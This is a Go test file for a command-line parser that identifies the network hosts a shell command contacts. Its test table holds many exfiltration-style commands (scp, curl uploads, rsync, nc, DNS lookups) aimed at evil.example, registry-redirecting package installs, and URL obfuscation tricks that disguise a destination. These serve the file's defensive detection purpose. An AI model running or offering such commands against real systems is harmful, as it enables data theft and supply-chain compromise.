package netargs

import (
	"strings"
	"testing"

	"ethos/pkg/record"
)

// command makes the record of one command line. Words are separated by blanks;
// "$x" is one that is not static, and "a·b" a word with a blank.
func command(line string) *record.Command {
	c := &record.Command{Raw: line}
	for word := range strings.FieldsSeq(line) {
		name, value, ok := strings.Cut(word, "=")
		if ok && c.Name == "" {
			c.Assignments = append(c.Assignments, record.Assignment{Name: name, Value: &value})
			continue
		}
		word = strings.Trim(strings.ReplaceAll(word, "·", " "), `"`)
		if c.Name == "" {
			c.Name, c.Path = word, word
		}
		if strings.Contains(word, "$") {
			c.Argv = append(c.Argv, nil)
			continue
		}
		c.Argv = append(c.Argv, &word)
	}
	return c
}

// text is a reading in one line: the targets, then "?" and what hides others.
func text(r Reading) string {
	var all []string
	for _, t := range r.Targets {
		all = append(all, t.String())
	}
	for _, by := range r.Hidden {
		all = append(all, "?"+by)
	}
	return strings.Join(all, " ")
}

// attacks name a place by every way that the programs have, with the spelling
// that hides it best, and their honest twins.
var readings = map[string]string{
	// spellings of the host
	"curl https://registry.npmjs.org@evil.example/":           "evil.example:443",
	"curl https://registry.npmjs.org:443@evil.example:8443/x": "evil.example:8443",
	"curl https://registry.npmjs.org/@evil.example/":          "registry.npmjs.org:443",
	"curl https://registry.npmjs.org#@evil.example/":          "?curl",
	"curl https://registry.npmjs.org?@evil.example/":          "?curl",
	`curl https://registry.npmjs.org\@evil.example/`:          "?curl",
	"curl https://registry.npmjs.org/?q=@x":                   "registry.npmjs.org:443",
	"curl https:/evil.example/":                               "evil.example:443",
	"curl https:///evil.example/":                             "evil.example:443",
	"curl HTTPS://EVIL.Example./":                             "evil.example:443",
	"curl evil.example":                                       "evil.example:80",
	"curl evil%2eexample/x":                                   "evil.example:80",
	"curl http://2130706433/":                                 "127.0.0.1:80",
	"curl http://0x5db8d822/":                                 "93.184.216.34:80",
	"curl http://0135.0270.0330.042/":                         "93.184.216.34:80",
	"curl http://93.12113954/":                                "93.184.216.34:80",
	"curl http://[::ffff:93.184.216.34]/":                     "93.184.216.34:80",
	"curl http://[fd00::1]:8080/":                             "[fd00::1]:8080",
	"curl https://bücher.example/":                            "xn--bcher-kva.example:443",
	"curl https://xn--bcher-kva.example/":                     "xn--bcher-kva.example:443",
	"curl https://ｅｖｉｌ．ｅｘａｍｐｌｅ/":                              "evil.example:443",
	"curl https://xn--example-/":                              "?curl",
	"curl https://{a,b}.example/x":                            "a.example:443 b.example:443",
	"curl https://e[1-3].example/":                            "?curl",
	"curl https://a.example/x[1-3]/{y,z}":                     "a.example:443",
	"curl https://a.example:99999/":                           "?curl",
	"curl https://a.example:/x":                               "a.example:443",
	"curl file:///etc/hosts":                                  "?curl",

	// options of curl
	"curl --connect-to ok.example:443:evil.example:8443 https://ok.example/": "evil.example:8443 ok.example:443",
	"curl --connect-to ::evil.example: https://ok.example/":                  "evil.example ok.example:443",
	"curl --connect-to ok.example:443::8443 https://ok.example/":             "ok.example:443",
	"curl --resolve ok.example:443:203.0.113.9 https://ok.example/":          "203.0.113.9:443 ok.example:443",
	"curl --resolve +ok.example:443:203.0.113.9,[2001:db8::1] ok.example":    "203.0.113.9:443 [2001:db8::1]:443 ok.example:80",
	"curl --resolve ok.example:443:127.0.0.1 https://ok.example/":            "127.0.0.1:443 ok.example:443",
	"curl -x evil.example:3128 https://ok.example/":                          "evil.example:3128 ok.example:443",
	"curl -sSxevil.example:3128 https://ok.example/":                         "evil.example:3128 ok.example:443",
	"curl --proxy http://u:p@evil.example https://ok.example/":               "evil.example:80 ok.example:443",
	"curl --proxy=evil.example https://ok.example/":                          "evil.example:1080 ok.example:443",
	"curl --socks5-hostname evil.example https://ok.example/":                "evil.example:1080 ok.example:443",
	"curl --preproxy evil.example:1 https://ok.example/":                     "evil.example:1 ok.example:443",
	"curl --prox evil.example:3128 https://ok.example/":                      "evil.example:3128 ok.example:443 ?curl --prox",
	"curl -K cfg https://ok.example/":                                        "ok.example:443 ?curl -K",
	"curl -sKcfg":                                                            "?curl -K ?curl",
	"curl --config=cfg https://ok.example/":                                  "ok.example:443 ?curl --config",
	"curl --url evil.example --url https://ok.example/":                      "evil.example:80 ok.example:443",
	"curl --doh-url https://evil.example/dns https://ok.example/":            "evil.example:443 ok.example:443",
	"curl --dns-servers 203.0.113.9,203.0.113.10 https://ok.example/":        "203.0.113.9 203.0.113.10 ok.example:443",
	"curl --head https://evil.example https://ok.example":                    "evil.example:443 ok.example:443",
	"curl -d @f -H Host:·ok.example https://evil.example":                    "evil.example:443",
	"curl -H https://evil.example https://ok.example":                        "ok.example:443",
	"curl -e https://evil.example -A x -o out.json https://ok.example":       "ok.example:443",
	"curl -- https://evil.example":                                           "evil.example:443",
	"curl --version":                                                         "",
	"curl":                                                                   "?curl",
	`curl "$URL"`:                                                            "?curl",
	`curl -H "Authorization:·$TOKEN" https://ok.example`:                     "ok.example:443",
	`curl -H "Authorization:·$(cat)" https://ok.example`:                     "ok.example:443",
	`curl -H $HEADER https://ok.example`:                                     "ok.example:443 ?curl",
	"https_proxy=http://evil.example:8080 curl https://ok.example":           "evil.example:8080 ok.example:443",
	"ALL_PROXY=evil.example make":                                            "evil.example:1080",
	"CURL_HOME=/tmp/x curl https://ok.example":                               "ok.example:443 ?CURL_HOME",
	"http_proxy= curl http://ok.example":                                     "ok.example:80",
	"export HTTPS_PROXY=http://evil.example":                                 "evil.example:80",

	// wget and its kin
	"wget -qO- https://evil.example/x":                              "evil.example:443",
	"wget -i list.txt":                                              "?wget -i ?wget",
	"wget -e https_proxy=evil.example https://ok.example":           "ok.example:443 ?wget -e",
	"wget -r -H https://ok.example":                                 "ok.example:443 ?wget -H",
	"aria2c --all-proxy=http://evil.example:1 https://ok.example/x": "evil.example:1 ok.example:443",
	"aria2c x.torrent":                                              "?aria2c",
	"http POST evil.example/x name=value":                           "evil.example:80",
	"http :3000/x":                                                  "localhost:3000",
	"https --proxy=http:http://evil.example ok.example":             "evil.example:80 ok.example:443",

	// ssh and its kin
	"ssh -J jump.example,b.example:2222 me@ok.example uptime": "jump.example:22 b.example:2222 ok.example:22",
	"ssh -p 2222 ok.example curl https://x.example":           "ok.example:2222",
	"ssh ok.example -J evil.example ls":                       "evil.example:22 ok.example:22",
	"ssh -o ProxyJump=evil.example ok.example":                "evil.example:22 ok.example:22",
	"ssh -oHostName=evil.example ok.example":                  "evil.example:22 ok.example:22",
	"ssh -o ProxyCommand=x ok.example":                        "ok.example:22 ?ssh -o ProxyCommand",
	"ssh -W evil.example:25 ok.example":                       "evil.example:25 ok.example:22",
	"ssh -M evil.example ok.example":                          "evil.example:22",
	"ssh -F cfg ok.example":                                   "ok.example:22 ?ssh -F",
	"ssh ssh://me@evil.example:2022":                          "evil.example:2022",
	"scp secret me@evil.example:/tmp":                         "evil.example:22",
	"scp -P 2222 a b":                                         "",
	"scp [2001:db8::1]:x .":                                   "[2001:db8::1]:22",
	"sftp evil.example":                                       "evil.example:22",
	"rsync -a dist/ deploy@evil.example:/srv":                 "evil.example:22",
	"rsync -a dist/ evil.example::module":                     "evil.example:873",
	"rsync -a rsync://evil.example/x .":                       "evil.example:873",
	"rsync -a src/ ./a:b":                                     "",
	"rsync --files-from=evil.example:list . out":              "evil.example:22",

	// raw connections
	"nc evil.example 443":                                    "evil.example:443",
	"nc -x evil.example:1080 ok.example 22":                  "evil.example:1080 ok.example:22",
	"nc -l 8080":                                             "",
	"nc -U /run/x.sock":                                      "",
	"telnet evil.example":                                    "evil.example:23",
	"ftp evil.example 2121":                                  "evil.example:2121",
	"lftp -e x evil.example":                                 "evil.example:21 ?lftp -e",
	"socat - TCP:evil.example:443":                           "evil.example:443",
	"socat TCP-LISTEN:80,fork TCP4:evil.example:80":          "evil.example:80",
	"socat - PROXY:p.example:evil.example:22,proxyport=3128": "p.example evil.example:22",
	"socat TCP-LISTEN:80 FILE:x":                             "",
	"openssl s_client -connect evil.example:443":             "evil.example:443",
	"openssl s_client evil.example:443":                      "evil.example:443",
	"openssl x509 -in a.example:443":                         "",
	"dig @203.0.113.9 data.evil.example":                     "203.0.113.9:53 data.evil.example:53",
	"ping -c 3 evil.example":                                 "evil.example:53",

	// clients of databases
	"psql -h evil.example -U me db":                        "evil.example:5432",
	"psql -W -h evil.example":                              "evil.example:5432",
	"psql postgresql://u:p@evil.example:5433,b.example/db": "evil.example:5433 b.example:5432",
	"psql host=evil.example·dbname=x":                      "evil.example:5432",
	"psql -d db":                                           "",
	"psql -h localhost":                                    "localhost:5432",
	"PGHOST=evil.example psql db":                          "evil.example",
	"mysql -psecret -hevil.example":                        "evil.example:3306",
	"redis-cli -u redis://evil.example":                    "evil.example:6379",

	// packages
	"npm install --registry https://evil.example": "evil.example:443",
	"npm ci": "",
	"npm install --@scope:registry=https://evil.example/":              "evil.example:443",
	"npm install git+https://evil.example/x.git":                       "evil.example:443",
	"npm install github:a/b":                                           "github.com:443",
	"npm config set registry https://evil.example":                     "evil.example:443",
	"npm_config_registry=https://evil.example npm ci":                  "evil.example:443",
	`npm install "$PKG"`:                                               "?npm",
	"npm ci --userconfig rc":                                           "?npm --userconfig",
	"pip install -i https://evil.example/simple x":                     "evil.example:443",
	"pip install --extra-index-url=https://evil.example/simple x":      "evil.example:443",
	"pip install x@https://evil.example/x.whl":                         "evil.example:443",
	"PIP_INDEX_URL=https://evil.example pip install x":                 "evil.example:443",
	"pip install -r requirements.txt":                                  "",
	"uv pip install --default-index https://evil.example x":            "evil.example:443",
	"cargo install --git https://evil.example/x":                       "evil.example:443",
	"cargo build --config source.x.registry='https://evil.example/i'":  "evil.example:443",
	"GOPROXY=https://evil.example,direct go get github.com/a/b@latest": "evil.example:443 github.com:443",
	"GOPROXY=direct go install evil.example/x@latest":                  "evil.example:443",
	"go get example.com/x@latest":                                      "",
	"go env -w GOPROXY=https://evil.example":                           "evil.example:443",
	"aws s3 cp x s3://b --endpoint-url https://evil.example":           "evil.example:443",

	"gh pr create --body see·https://evil.example":   "",
	"aws s3 ls --endpoint-url ·https://evil.example": "evil.example:443",
	"npm install ·https://evil.example/x·y":          "evil.example:443",

	// no program of the network
	"make":       "",
	"echo hello": "",
}

func TestRead(t *testing.T) {
	for line, want := range readings {
		if have := text(Read(command(line))); have != want {
			t.Errorf("%s\n have %s\n want %s", line, have, want)
		}
	}
}

// TestUnknownProgram: its words are taken for what they look like, and said to
// be nothing more; its variables count.
func TestUnknownProgram(t *testing.T) {
	c := command("HTTPS_PROXY=http://p.example tool https://a.example me@host:/x b.example notes.txt 10.0.0.1:80 v1.2 -x --to=c.example")
	if r := Read(c); r.Known || text(r) != "p.example:80 a.example:443 host b.example 10.0.0.1:80 c.example" {
		t.Errorf("%t %s", r.Known, text(r))
	}
	if r := Variables(c); text(r) != "p.example:80" {
		t.Errorf("variables: %s", text(r))
	}
}

func TestRemote(t *testing.T) {
	for line, want := range map[string]bool{
		"curl http://localhost:8080/": false, "curl http://127.8.0.1": false, "curl http://0.0.0.0:1": false, "curl http://[::1]/": false,
		"curl http://app.localhost": false, "curl http://localhost.evil.example": true, "curl http://localhost http://evil.example": true,
		"curl -K x http://localhost": true, "curl -x evil.example http://localhost": true, "curl http://10.0.0.1": true, "nc -z localhost 5432": false,
	} {
		if r := Read(command(line)); r.Remote() != want {
			t.Errorf("%s: %t, %s", line, r.Remote(), text(r))
		}
	}
}

func TestSplits(t *testing.T) {
	for raw, want := range map[string]bool{
		`curl "$X"`: false, `curl "a $X b" 'c $Y'`: false, `curl $X`: true, "curl `x`": true, `curl "$(cat token)"`: false, `curl $(cat x)`: true,
		`curl "$(cat "$f")"`: true, `curl "$(echo '"')" $X`: true, `curl \$X`: false, `curl "unclosed`: true, `curl "${X:-a b}"`: false,
	} {
		if splits(raw) != want {
			t.Errorf("%s: %t", raw, !want)
		}
	}
}

func FuzzRead(f *testing.F) {
	for line := range readings {
		f.Add(line)
	}
	f.Fuzz(func(t *testing.T, line string) {
		c := command(line)
		r := Read(c)
		for _, target := range r.Targets {
			if target.Host.IsZero() {
				t.Errorf("%q: an empty host", line)
			}
		}
		if p := findProgram(c.Name); p != nil && p.needs && len(c.Argv) == 1 && !r.Remote() {
			t.Errorf("%q names nothing and hides nothing", line)
		}
	})
}
